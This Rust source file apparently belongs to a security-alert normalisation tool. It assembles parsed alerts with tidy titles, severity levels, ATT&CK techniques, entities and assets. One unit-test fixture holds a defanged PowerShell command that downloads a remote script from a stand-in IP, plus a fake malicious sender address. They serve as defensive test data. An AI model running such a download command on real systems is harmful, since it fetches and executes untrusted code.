//! Assembles a [`ParsedAlert`] the same way for every format: a parser sets what its
//! format says, and [`AlertBuilder::finish`] fills the rest consistently — the tidy title,
//! the fallbacks, the entities implied by the signals, and the assets.

use serde_json::{Map, Value, json};
use sleuth_domain::{EntityKind, HandlerVersion, ParsedAlert, SeverityLevel, Signals, Timestamp};

pub(crate) use sleuth_normalize::text::truncate;

use crate::entities::Entities;

/// The longest title shown to analysts; the source's full wording stays in original_title.
const MAX_TITLE_CHARS: usize = 300;
/// The longest original title and description kept.
const MAX_TEXT_CHARS: usize = 4000;

/// What the builder writes into every alert of one wire format (a `Schema`'s labels).
#[derive(Debug, Clone, Copy)]
pub struct FormatLabels {
    /// The `schema_key` ("aws_guardduty_eventbridge").
    pub key: &'static str,
    /// The format, for people: the alert's `origin_integration_display_name`.
    pub display_name: &'static str,
    /// The product: the alert's `direct_source_label` unless the alert names one.
    pub source_label: &'static str,
    /// The alert's `origin_integration`.
    pub integration: &'static str,
}

/// One alert being read. Parsers set fields in any order; `finish` makes it whole.
#[derive(Debug)]
pub struct AlertBuilder {
    format: FormatLabels,
    received_at: Timestamp,
    title: Option<String>,
    alert_type: Option<String>,
    create_time: Option<Timestamp>,
    start_time: Option<Timestamp>,
    severity: Option<String>,
    direct_source_label: Option<String>,
    proxy_source_label: Option<String>,
    origin_ticket_id: Option<String>,
    origin_ticket_id_label: Option<String>,
    origin_ticket_url: Option<String>,
    coalesce_key: Option<String>,
    tenant_id: Option<String>,
    tenant_label: Option<String>,
    handler_version: HandlerVersion,
    assets: Map<String, Value>,
    entities: Entities,
    /// What the source observed. Parsers fill it directly; `finish` turns the addresses,
    /// accounts, hashes and hosts in it into entities.
    pub signals: Signals,
}

impl AlertBuilder {
    pub fn new(format: FormatLabels, received_at: Timestamp) -> AlertBuilder {
        AlertBuilder {
            format,
            received_at,
            title: None,
            alert_type: None,
            create_time: None,
            start_time: None,
            severity: None,
            direct_source_label: None,
            proxy_source_label: None,
            origin_ticket_id: None,
            origin_ticket_id_label: None,
            origin_ticket_url: None,
            coalesce_key: None,
            tenant_id: None,
            tenant_label: None,
            handler_version: HandlerVersion::V2,
            assets: Map::new(),
            entities: Entities::default(),
            signals: Signals::default(),
        }
    }

    /// The source's title, as written; the first one set wins.
    pub fn title(&mut self, text: Option<&str>) -> &mut Self {
        if self.title.is_none()
            && let Some(text) = text.map(str::trim).filter(|text| !text.is_empty())
        {
            self.title = Some(truncate(text, MAX_TEXT_CHARS));
        }
        self
    }

    /// The detection's stable name (rule, finding type); the first one set wins.
    pub fn alert_type(&mut self, text: Option<&str>) -> &mut Self {
        if self.alert_type.is_none()
            && let Some(text) = text.map(str::trim).filter(|text| !text.is_empty())
        {
            self.alert_type = Some(truncate(text, 300));
        }
        self
    }

    pub fn create_time(&mut self, time: Option<Timestamp>) -> &mut Self {
        if self.create_time.is_none() {
            self.create_time = time;
        }
        self
    }

    pub fn start_time(&mut self, time: Option<Timestamp>) -> &mut Self {
        if self.start_time.is_none() {
            self.start_time = time;
        }
        self
    }

    /// The source's severity word ("High", "Sev 3"); also sets the normalised level when
    /// the word is one of the common ones.
    pub fn severity(&mut self, text: Option<&str>) -> &mut Self {
        if self.severity.is_none()
            && let Some(text) = text.map(str::trim).filter(|text| !text.is_empty())
        {
            self.severity = Some(truncate(text, 50).to_lowercase());
            if self.signals.severity_level.is_none() {
                self.signals.severity_level = SeverityLevel::parse(text);
            }
        }
        self
    }

    /// A numeric severity or risk score on a 0..=`maximum` scale. Sets the severity text
    /// to the level's name when the source gave no word of its own.
    pub fn severity_score(&mut self, score: Option<f64>, maximum: f64) -> &mut Self {
        if let Some(score) = score {
            let level = SeverityLevel::from_score(score, maximum);
            self.signals.severity_level.get_or_insert(level);
            if self.severity.is_none() {
                self.severity = Some(level.as_str().to_string());
            }
        }
        self
    }

    /// Overrides the product name when a format carries alerts of several products
    /// (Sentinel forwarding Defender, Graph alerts from many services).
    pub fn source_label(&mut self, label: Option<&str>) -> &mut Self {
        if let Some(label) = label.map(str::trim).filter(|label| !label.is_empty()) {
            self.direct_source_label = Some(truncate(label, 200));
        }
        self
    }

    /// The product the alert passed through on its way here (a SIEM forwarding an EDR).
    pub fn proxy_source_label(&mut self, label: &str) -> &mut Self {
        self.proxy_source_label = Some(label.to_string());
        self
    }

    /// The source's own id of the alert, what it calls that id, and a link to it.
    pub fn ticket(&mut self, id: Option<String>, label: &str, url: Option<String>) -> &mut Self {
        if let Some(id) = id.filter(|id| !id.trim().is_empty()) {
            self.origin_ticket_id = Some(truncate(id.trim(), 500));
            self.origin_ticket_id_label = Some(label.to_string());
        }
        if let Some(url) =
            url.filter(|url| url.starts_with("https://") || url.starts_with("http://"))
        {
            self.origin_ticket_url = Some(truncate(&url, 2000));
        }
        self
    }

    /// Alerts sharing this key within the coalesce window are one story.
    pub fn coalesce_key(&mut self, key: Option<String>) -> &mut Self {
        if let Some(key) = key.filter(|key| !key.trim().is_empty()) {
            self.coalesce_key = Some(format!("{}:{}", self.format.key, truncate(key.trim(), 500)));
        }
        self
    }

    /// The tenant as the source names it (a customer id, an organisation).
    pub fn tenant(&mut self, id: Option<String>, label: Option<String>) -> &mut Self {
        self.tenant_id = id
            .filter(|id| !id.trim().is_empty())
            .map(|id| truncate(&id, 200));
        self.tenant_label = label
            .filter(|label| !label.trim().is_empty())
            .map(|label| truncate(&label, 200));
        self
    }

    /// Formats with two generations of schema (v1 and v2 of a vendor API).
    pub fn handler_version(&mut self, version: HandlerVersion) -> &mut Self {
        self.handler_version = version;
        self
    }

    /// An asset group the format names explicitly ("hosts", "cloud_resources").
    pub fn asset(&mut self, group: &str, value: Value) -> &mut Self {
        if let Some(Value::Array(items)) = self.assets.get_mut(group) {
            if !items.contains(&value) {
                items.push(value);
            }
        } else {
            self.assets.insert(group.to_string(), json!([value]));
        }
        self
    }

    /// An entity of `kind` when `text` validates as one.
    pub fn entity(&mut self, kind: EntityKind, text: Option<&str>) -> &mut Self {
        if let Some(text) = text {
            self.entities.add(kind, text);
        }
        self
    }

    /// A host name, or an IP address written where a host was expected.
    pub fn host(&mut self, text: Option<&str>) -> &mut Self {
        if let Some(text) = text {
            self.entities.add_host(text);
        }
        self
    }

    /// A hex digest of whichever kind its length says.
    pub fn hash(&mut self, text: Option<&str>) -> &mut Self {
        if let Some(text) = text {
            self.entities.add_hash(text);
        }
        self
    }

    /// The URLs, addresses, emails and hashes written inside free text.
    pub fn sweep(&mut self, text: Option<&str>) -> &mut Self {
        if let Some(text) = text {
            self.entities.sweep(text);
        }
        self
    }

    /// The source's description of the detection.
    pub fn description(&mut self, text: Option<&str>) -> &mut Self {
        if self.signals.description.is_none()
            && let Some(text) = text.map(str::trim).filter(|text| !text.is_empty())
        {
            self.signals.description = Some(truncate(text, MAX_TEXT_CHARS));
        }
        self
    }

    /// ATT&CK tactics written any common way; unknown spellings are dropped.
    pub fn tactic(&mut self, text: Option<&str>) -> &mut Self {
        if let Some(tactic) = text.and_then(sleuth_domain::mitre::canonical_tactic)
            && !self
                .signals
                .mitre_tactics
                .iter()
                .any(|known| known == tactic)
        {
            self.signals.mitre_tactics.push(tactic.to_string());
        }
        self
    }

    /// ATT&CK technique ids ("T1003.001"); anything else is dropped.
    pub fn technique(&mut self, text: Option<&str>) -> &mut Self {
        if let Some(id) = text.map(str::trim).map(str::to_ascii_uppercase)
            && sleuth_domain::mitre::is_technique_id(&id)
            && !self.signals.mitre_techniques.contains(&id)
        {
            self.signals.mitre_techniques.push(id);
        }
        self
    }

    /// A label the source attached.
    pub fn tag(&mut self, text: Option<&str>) -> &mut Self {
        if let Some(text) = text
            .map(str::trim)
            .filter(|text| !text.is_empty() && text.len() <= 200)
            && !self.signals.tags.iter().any(|known| known == text)
            && self.signals.tags.len() < 50
        {
            self.signals.tags.push(text.to_string());
        }
        self
    }

    /// Makes the alert whole.
    pub fn finish(mut self) -> ParsedAlert {
        self.decode_commands();
        self.entities_from_signals();
        for technique in self.signals.mitre_techniques.clone() {
            if let Some(tactic) = sleuth_domain::mitre::tactic_of_technique(&technique) {
                self.tactic(Some(tactic));
            }
        }
        let source_label = self
            .direct_source_label
            .unwrap_or_else(|| self.format.source_label.to_string());
        let original_title = self
            .title
            .unwrap_or_else(|| format!("{source_label} alert"));
        // A title of control characters only tidies to nothing: the fallback stands in.
        let title = Some(tidy_title(&original_title))
            .filter(|title| !title.is_empty())
            .unwrap_or_else(|| format!("{source_label} alert"));
        let entities = self.entities.into_vec();
        // Without a rule name the title stands in, with the values that vary between
        // alerts of one detection taken out.
        let alert_type = self.alert_type.unwrap_or_else(|| {
            let template = crate::alert_type::template(&title, &entities);
            format!("{}:{}", self.format.key, template)
        });
        let assets = if self.assets.is_empty() {
            assets_from(&entities)
        } else {
            self.assets
        };
        ParsedAlert {
            schema_key: self.format.key.to_string(),
            handler_version: self.handler_version,
            alert_type,
            title,
            original_title,
            create_time: self.create_time.unwrap_or(self.received_at),
            start_time: self.start_time,
            severity: self.severity,
            direct_source_label: source_label,
            proxy_source_label: self.proxy_source_label,
            origin_integration: Some(self.format.integration.to_string()),
            origin_integration_display_name: self.format.display_name.to_string(),
            origin_ticket_id: self.origin_ticket_id,
            origin_ticket_id_label: self.origin_ticket_id_label,
            origin_ticket_url: self.origin_ticket_url,
            entities,
            assets,
            coalesce_key: self.coalesce_key,
            tenant_id: self.tenant_id,
            tenant_label: self.tenant_label,
            signals: self.signals,
        }
    }

    /// What the command lines hide (an encoded PowerShell command, a base64 pipe), decoded
    /// once here so that every source's alerts are judged on it.
    fn decode_commands(&mut self) {
        if let Some(process) = self.signals.process.as_mut()
            && process.decoded_command.is_none()
        {
            let decoded: Vec<String> = [&process.command_line, &process.parent_command_line]
                .into_iter()
                .flatten()
                .filter_map(|line| crate::decode::decode_command(line))
                .collect();
            if !decoded.is_empty() {
                process.decoded_command = Some(truncate(&decoded.join("\n"), MAX_TEXT_CHARS));
            }
        }
    }

    /// Every address, account, host, hash and resource the signals name becomes an
    /// entity, so parsers write each fact once.
    fn entities_from_signals(&mut self) {
        let signals = &self.signals;
        let entities = &mut self.entities;
        if let Some(process) = &signals.process {
            add_each(
                entities,
                EntityKind::Process,
                [&process.name, &process.parent_name],
            );
            add_each(entities, EntityKind::FilePath, [&process.path]);
            add_each(entities, EntityKind::User, [&process.user]);
            add_each(entities, EntityKind::HashSha256, [&process.sha256]);
            add_each(entities, EntityKind::HashSha1, [&process.sha1]);
            add_each(entities, EntityKind::HashMd5, [&process.md5]);
        }
        if let Some(sign_in) = &signals.sign_in {
            add_each(entities, EntityKind::User, [&sign_in.user]);
            add_each(entities, EntityKind::Ip, [&sign_in.source_ip]);
        }
        if let Some(email) = &signals.email {
            add_each(
                entities,
                EntityKind::Email,
                [&email.sender, &email.envelope_sender],
            );
            add_each(entities, EntityKind::Ip, [&email.sender_ip]);
            for recipient in &email.recipients {
                entities.add(EntityKind::Email, recipient);
            }
            for url in &email.urls {
                entities.add(EntityKind::Url, url);
            }
            for attachment in &email.attachments {
                add_each(entities, EntityKind::FilePath, [&attachment.name]);
                add_each(entities, EntityKind::HashSha256, [&attachment.sha256]);
                add_each(entities, EntityKind::HashMd5, [&attachment.md5]);
            }
        }
        if let Some(network) = &signals.network {
            add_each(
                entities,
                EntityKind::Ip,
                [&network.source_ip, &network.destination_ip],
            );
            add_each(entities, EntityKind::Domain, [&network.hostname]);
        }
        if let Some(cloud) = &signals.cloud {
            add_each(entities, EntityKind::CloudAccount, [&cloud.account]);
            add_each(entities, EntityKind::User, [&cloud.principal]);
            add_each(entities, EntityKind::CloudResource, [&cloud.resource]);
        }
        // Command lines are swept last, so the explicit fields come first in the list.
        if let Some(process) = &signals.process {
            for command_line in [
                &process.command_line,
                &process.parent_command_line,
                &process.decoded_command,
            ]
            .into_iter()
            .flatten()
            {
                entities.sweep(command_line);
            }
        }
    }
}

/// Adds each present value as an entity of `kind` (invalid ones are dropped).
fn add_each<const N: usize>(
    entities: &mut Entities,
    kind: EntityKind,
    values: [&Option<String>; N],
) {
    for value in values.into_iter().flatten() {
        entities.add(kind, value);
    }
}

/// The hosts, users and cloud resources of an alert, for SPEC's `assets` object.
fn assets_from(entities: &[sleuth_domain::Entity]) -> Map<String, Value> {
    let mut assets = Map::new();
    for (group, kind) in [
        ("hosts", EntityKind::Host),
        ("users", EntityKind::User),
        ("cloud_accounts", EntityKind::CloudAccount),
        ("cloud_resources", EntityKind::CloudResource),
    ] {
        let values: Vec<Value> = entities
            .iter()
            .filter(|entity| entity.kind == kind)
            .map(|entity| Value::String(entity.value.clone()))
            .collect();
        if !values.is_empty() {
            assets.insert(group.to_string(), Value::Array(values));
        }
    }
    assets
}

/// One line, no control characters, no runs of spaces, at most [`MAX_TITLE_CHARS`].
fn tidy_title(text: &str) -> String {
    let cleaned: String = text
        .split(|character: char| character.is_whitespace() || character.is_control())
        .filter(|word| !word.is_empty())
        .collect::<Vec<_>>()
        .join(" ");
    truncate(&cleaned, MAX_TITLE_CHARS)
}

#[cfg(test)]
mod tests {
    use sleuth_domain::{EmailSignal, ProcessSignal};

    use super::*;
    use crate::registry;

    fn builder() -> AlertBuilder {
        let schema = registry::find("generic").expect("the generic schema exists");
        AlertBuilder::new(schema.labels(), chrono::Utc::now())
    }

    #[test]
    fn titles_are_tidied_but_the_original_is_kept() {
        let mut alert = builder();
        alert.title(Some("  Suspicious\n\tlogin \u{7} from   203.0.113.9 "));
        let parsed = alert.finish();
        assert_eq!(parsed.title, "Suspicious login from 203.0.113.9");
        assert_eq!(
            parsed.original_title,
            "Suspicious\n\tlogin \u{7} from   203.0.113.9"
        );
    }

    #[test]
    fn a_title_of_control_characters_falls_back_to_the_source() {
        let mut alert = builder();
        alert.title(Some("\u{0}\u{7}"));
        assert_eq!(alert.finish().title, "Generic alert");
    }

    #[test]
    fn signals_become_entities_and_assets() {
        let mut alert = builder();
        alert.signals.process = Some(ProcessSignal {
            name: Some("powershell.exe".into()),
            user: Some("CORP\\r.patel".into()),
            command_line: Some("powershell -c iwr hxxp://198.51.100.23/a.ps1".into()),
            ..ProcessSignal::default()
        });
        alert.signals.email = Some(EmailSignal {
            sender: Some("billing@evil.co.uk".into()),
            ..EmailSignal::default()
        });
        alert.host(Some("WKS-0231"));
        let parsed = alert.finish();
        let values: Vec<(&str, &str)> = parsed
            .entities
            .iter()
            .map(|entity| (entity.kind.as_str(), entity.value.as_str()))
            .collect();
        for expected in [
            ("host", "wks-0231"),
            ("process", "powershell.exe"),
            ("user", "corp\\r.patel"),
            ("email", "billing@evil.co.uk"),
            ("url", "http://198.51.100.23/a.ps1"),
            ("ip", "198.51.100.23"),
        ] {
            assert!(values.contains(&expected), "{expected:?} in {values:?}");
        }
        assert_eq!(parsed.assets["hosts"], json!(["wks-0231"]));
        assert_eq!(parsed.assets["users"], json!(["corp\\r.patel"]));
    }

    #[test]
    fn missing_fields_fall_back_to_sensible_values() {
        let received_at = chrono::Utc::now();
        let schema = registry::find("generic").expect("the generic schema exists");
        let parsed = AlertBuilder::new(schema.labels(), received_at).finish();
        assert_eq!(parsed.create_time, received_at);
        assert_eq!(parsed.title, "Generic alert");
        assert_eq!(parsed.alert_type, "generic:Generic alert");
    }

    #[test]
    fn a_type_from_the_title_leaves_the_entity_values_out() {
        let mut alert = builder();
        alert.title(Some("Mimikatz on LAPTOP7 as CORP\\R.Patel"));
        alert.host(Some("laptop7"));
        alert.signals.process = Some(ProcessSignal {
            user: Some("CORP\\r.patel".into()),
            ..ProcessSignal::default()
        });
        let parsed = alert.finish();
        assert_eq!(parsed.title, "Mimikatz on LAPTOP7 as CORP\\R.Patel");
        assert_eq!(parsed.alert_type, "generic:Mimikatz on {host} as {user}");
    }

    #[test]
    fn techniques_imply_their_tactics() {
        let mut alert = builder();
        alert
            .technique(Some("t1003.001"))
            .technique(Some("not-a-technique"));
        let parsed = alert.finish();
        assert_eq!(parsed.signals.mitre_techniques, vec!["T1003.001"]);
        assert_eq!(parsed.signals.mitre_tactics, vec!["Credential Access"]);
    }
}
